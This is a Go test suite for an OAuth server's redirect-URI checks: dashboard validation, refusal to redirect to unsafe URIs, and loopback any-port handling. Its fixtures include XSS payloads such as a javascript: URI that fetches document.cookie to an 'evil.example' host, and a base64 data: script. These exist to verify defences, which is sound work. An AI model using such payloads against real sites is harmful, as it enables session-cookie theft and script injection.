package web_test

import (
	"database/sql"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/latchkey/latchkey/models/modelstest"
	"golang.org/x/oauth2"
)

// TestDashboardRefusesUnsafeRedirectURIs registers and edits clients on the
// dashboard with redirect URIs a browser would run or send in clear: each
// is refused with 422, the form again with a message naming the redirect
// URI and what is allowed, and nothing is saved.
func TestDashboardRefusesUnsafeRedirectURIs(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	b := newBrowser(t, ts)
	b.login("admin")
	bad := []struct{ name, uri, says string }{
		{"javascript", "javascript:alert(document.cookie)", `scheme "javascript:"`},
		{"data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", `scheme "data:"`},
		{"remote http", "http://app.example.com/callback", "not a loopback address"},
		{"fragment", "https://app.example.com/cb#x", "fragment"},
	}
	for _, tc := range bad {
		t.Run("create with "+tc.name, func(t *testing.T) {
			_, html := b.get("/admin/clients")
			form := url.Values{"csrf": {doc(t, html).Find(`meta[name="csrf-token"]`).AttrOr("content", "")},
				"name": {"Evil " + tc.name}, "type": {"public"}, "grant": {"authorization_code"},
				"redirect_uris": {"https://ok.example.com/cb\n" + tc.uri}}
			before := ts.counts(t)
			resp, html := b.post("/admin/clients", form)
			if resp.StatusCode != http.StatusUnprocessableEntity {
				t.Fatalf("status: got %d, want 422", resp.StatusCode)
			}
			msg := doc(t, html).Find(`[data-testid="create-error"]`).Text()
			if !strings.Contains(msg, "Redirect URI") || !strings.Contains(msg, tc.says) || !strings.Contains(msg, "http://127.0.0.1:PORT/") {
				t.Errorf("message: got %q, want it to name the redirect URI, say %q and what is allowed", msg, tc.says)
			}
			if ts.counts(t) != before {
				t.Errorf("a refused client changed the database")
			}
		})
		t.Run("edit with "+tc.name, func(t *testing.T) {
			cl := ts.f.Public
			path := "/admin/clients/" + strconv.FormatInt(cl.ID, 10) + "/edit"
			form := editClientForm(t, b, cl)
			form.Set("redirect_uris", tc.uri)
			before := ts.counts(t)
			resp, html := b.post(path, form)
			if resp.StatusCode != http.StatusUnprocessableEntity {
				t.Fatalf("status: got %d, want 422", resp.StatusCode)
			}
			if msg := doc(t, html).Find(`[data-testid="edit-error"]`).Text(); !strings.Contains(msg, "Redirect URI") || !strings.Contains(msg, tc.says) {
				t.Errorf("message: got %q, want it to name the redirect URI and say %q", msg, tc.says)
			}
			after, err := ts.st.ClientByID(t.Context(), cl.ID)
			if err != nil || after.RedirectURIs != cl.RedirectURIs {
				t.Errorf("redirect URIs after a refused edit: got %q (%v), want %q", after.RedirectURIs, err, cl.RedirectURIs)
			}
			if ts.counts(t) != before {
				t.Errorf("a refused edit changed the database")
			}
		})
	}
	t.Run("the allowed kinds are accepted", func(t *testing.T) {
		cl := ts.f.Public
		form := editClientForm(t, b, cl)
		form.Set("redirect_uris", "https://app.example.com/cb\nhttp://127.0.0.1:8080/cb\nhttp://[::1]:8080/cb\ncom.example.app:/cb")
		if resp, html := b.post("/admin/clients/"+strconv.FormatInt(cl.ID, 10)+"/edit", form); resp.StatusCode != http.StatusSeeOther {
			t.Errorf("save: got %d, want 303: %s", resp.StatusCode, doc(t, html).Find(`[data-testid="edit-error"]`).Text())
		}
	})
}

// TestAuthorizeNeverRedirectsToAnUnsafeURI plants a javascript: redirect
// URI in a client row, as a database from before registration checked
// redirect URIs could hold: /o/authorize answers 400 with a page and never
// sends a Location there — not for consent, not for an error, not after
// the user allows.
func TestAuthorizeNeverRedirectsToAnUnsafeURI(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	cl := ts.f.Confidential
	const evil = "javascript:fetch('https://evil.example/?'+document.cookie)//"
	plantRedirectURIs(t, ts, cl.ID, evil)

	alice := newBrowser(t, ts)
	alice.login("alice")
	cfg := &oauth2.Config{ClientID: cl.ClientID, Endpoint: ts.endpoint(), RedirectURL: evil}
	v := oauth2.S256ChallengeOption(oauth2.GenerateVerifier())
	noRedirect := func(what string, resp *http.Response) {
		t.Helper()
		loc := resp.Header.Get("Location")
		if resp.StatusCode != http.StatusBadRequest || loc != "" {
			t.Errorf("%s: got %d with Location %q, want 400 and no redirect", what, resp.StatusCode, loc)
		}
	}
	resp, html := alice.get(cfg.AuthCodeURL("s", v))
	noRedirect("authorize with the planted URI", resp)
	if !strings.Contains(html, "not allowed") {
		t.Errorf("the page does not say why")
	}
	// Without redirect_uri the only registered URI is used.
	cfg.RedirectURL = ""
	resp, _ = alice.get(cfg.AuthCodeURL("s", v))
	noRedirect("authorize without redirect_uri", resp)
	// An error that would go back to the client is not sent there either.
	resp, _ = alice.get("/o/authorize/?client_id=" + url.QueryEscape(cl.ClientID) + "&response_type=token")
	noRedirect("an error for the client", resp)
	anon := newBrowser(t, ts)
	resp, _ = anon.get(cfg.AuthCodeURL("s", v))
	noRedirect("authorize before login", resp)
	// Nor a consent form posted by hand.
	_, page := alice.get("/o/authorized_tokens/")
	csrf := doc(t, page).Find(`meta[name="csrf-token"]`).AttrOr("content", "")
	resp, _ = alice.post("/o/authorize/", url.Values{"csrf": {csrf}, "client_id": {cl.ClientID}, "response_type": {"code"},
		"redirect_uri": {evil}, "decision": {"allow"}})
	noRedirect("a posted consent", resp)
}

// plantRedirectURIs writes a client's redirect URIs straight into its row,
// past the checks of registration and editing.
func plantRedirectURIs(t *testing.T, ts *testServer, id int64, uris string) {
	t.Helper()
	driver, dsn, q := "sqlite3", "file:"+ts.db+"?_busy_timeout=5000", "UPDATE clients SET redirect_uris = ? WHERE id = ?"
	if modelstest.OnPostgres() {
		driver, dsn, q = "pgx", ts.db, "UPDATE clients SET redirect_uris = $1 WHERE id = $2"
	}
	db, err := sql.Open(driver, dsn)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec(q, uris, id); err != nil {
		t.Fatalf("plant redirect URIs: %v", err)
	}
}

// TestLoopbackRedirectAnyPort: a native app registers
// http://127.0.0.1:9999/callback and, at sign-in, listens on whatever port
// the system gave it; RFC 8252 §7.3: the server "MUST allow any port to be
// specified at the time of the request for loopback IP redirect URIs". The
// code is then bound to that URI, port included (RFC 6749 §4.1.3).
func TestLoopbackRedirectAnyPort(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	pub := &oauth2.Config{ClientID: ts.f.Public.ClientID, Endpoint: ts.endpoint(),
		RedirectURL: "http://127.0.0.1:51234/callback", Scopes: []string{"read"}}
	v := oauth2.GenerateVerifier()
	q := authorize(t, ts, pub, oauth2.S256ChallengeOption(v))
	tok, err := pub.Exchange(ts.ctx(), q.Get("code"), oauth2.VerifierOption(v))
	if err != nil {
		t.Fatalf("exchange at the ephemeral port's URI: %v", err)
	}
	if status, body, _ := ts.me(t, tok.AccessToken); status != 200 || body["user"] != "alice" {
		t.Errorf("/api/me: %d %v", status, body)
	}

	v = oauth2.GenerateVerifier()
	q = authorize(t, ts, pub, oauth2.S256ChallengeOption(v))
	registered := *pub
	registered.RedirectURL = "http://127.0.0.1:9999/callback"
	_, err = registered.Exchange(ts.ctx(), q.Get("code"), oauth2.VerifierOption(v))
	assertRetrieveError(t, err, "invalid_grant")

	b := newBrowser(t, ts)
	b.login("alice")
	for _, uri := range []string{"http://127.0.0.1:51234/other", "http://localhost:51234/callback", "http://127.0.0.2:51234/callback"} {
		other := *pub
		other.RedirectURL = uri
		resp, _ := b.get(other.AuthCodeURL("s", oauth2.S256ChallengeOption(oauth2.GenerateVerifier())))
		if resp.StatusCode != 400 || resp.Header.Get("Location") != "" {
			t.Errorf("authorize with %s: %d %q, want a 400 page, no redirect", uri, resp.StatusCode, resp.Header.Get("Location"))
		}
	}
}
